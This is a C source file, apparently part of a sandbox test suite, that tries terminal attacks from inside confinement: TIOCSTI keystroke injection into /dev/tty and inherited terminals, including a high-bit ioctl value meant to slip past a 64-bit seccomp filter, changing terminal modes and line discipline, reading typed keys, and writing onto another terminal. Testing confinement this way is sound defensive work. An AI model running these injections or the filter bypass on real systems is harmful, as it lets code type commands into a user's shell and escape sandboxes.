/* Typing into, or writing on, the user's terminal. */
#define _GNU_SOURCE
#include "hostile.h"

#include <fcntl.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <termios.h>
#include <unistd.h>

static _Noreturn void type_into(const char *what, int fd) {
    const char *keys = param("keys");
    /* Set high bits must not get past a filter that compares 64 bits: the kernel looks at 32. */
    unsigned long commands[] = { TIOCSTI, TIOCSTI | 1UL << 40 };
    int typed = 0;
    for (; *keys; keys++) {
        int result = -1;
        for (size_t i = 0; result && i < sizeof commands / sizeof *commands; i++) result = ioctl(fd, commands[i], keys);
        if (result) refused(errno, "%s", what);
        typed++;
    }
    reached("%s: typed %d keys", what, typed);
}

static void t01_type_into_dev_tty(void) {
    int fd = (int)try_("open /dev/tty", open("/dev/tty", O_RDWR));
    type_into("TIOCSTI on /dev/tty", fd);
}

static void t02_type_into_stdin(void) {
    for (int fd = 0; fd < 3; fd++)
        if (isatty(fd)) type_into("TIOCSTI on an inherited descriptor", fd);
    if (!isatty(0)) refused(ENOTTY, "no inherited descriptor is a terminal");
    broken("a terminal vanished");
}

/* An inherited descriptor that is a terminal. */
static int inherited_terminal(void) {
    for (int fd = 0; fd < 3; fd++)
        if (isatty(fd)) return fd;
    refused(ENOTTY, "no inherited descriptor is a terminal");
}

static void t05_change_inherited_terminal(void) {
    int fd = inherited_terminal(), discipline = 0;
    struct termios modes;
    try_("tcgetattr", tcgetattr(fd, &modes));
    modes.c_lflag ^= ECHO;
    try_("tcsetattr", tcsetattr(fd, TCSANOW, &modes));
    try_("TIOCSETD", ioctl(fd, TIOCSETD, &discipline));
    reached("changed the modes and the line discipline of descriptor %d", fd);
}

static void t06_read_inherited_terminal(void) {
    int fd = inherited_terminal();
    struct termios modes;
    char typed;
    try_("tcgetattr", tcgetattr(fd, &modes));
    modes.c_lflag &= ~(tcflag_t)ICANON;
    modes.c_cc[VMIN] = modes.c_cc[VTIME] = 0;
    try_("tcsetattr", tcsetattr(fd, TCSANOW, &modes));
    try_("read", read(fd, &typed, 1));
    reached("reads what is typed, through descriptor %d", fd);
}

static void t04_write_on_other_terminal(void) {
    int fd = (int)try_("open another terminal", open(param("victim-pts"), O_WRONLY | O_NOCTTY));
    if (!isatty(fd)) refused(ENOTTY, "that is not a terminal here");
    const char *text = param("secret");
    try_("write", write(fd, text, strlen(text)));
    reached("wrote on %s", param("victim-pts"));
}

const struct attack terminal_attacks[] = {
    { "T01", t01_type_into_dev_tty },
    { "T02", t02_type_into_stdin },
    { "T04", t04_write_on_other_terminal },
    { "T05", t05_change_inherited_terminal },
    { "T06", t06_read_inherited_terminal },
    { 0 },
};
